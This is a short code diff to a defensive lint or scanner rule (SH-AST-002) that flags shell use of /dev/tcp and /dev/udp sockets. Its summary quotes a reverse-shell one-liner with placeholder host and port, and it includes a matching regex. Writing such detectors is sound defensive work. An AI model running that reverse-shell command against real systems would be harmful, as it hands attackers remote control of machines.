@@ -12,6 +12,7 @@ const DEV_NET_URL = /^\/dev\/(?:tcp|udp)\//;
 export default defineRule({
   id: 'SH-AST-002',
   invariant: 'NO_SHELL_BREAKOUT',
+  kinds: ['exec', 'file', 'net'],
   summary: 'Use of /dev/tcp or /dev/udp sockets (bash -i >& /dev/tcp/host/port).',
   remediationHint:
     'Raw /dev/tcp sockets are how reverse shells are built. Use an HTTP client for legitimate requests (curl -fsS https://host/path) and never connect a shell to a socket.',
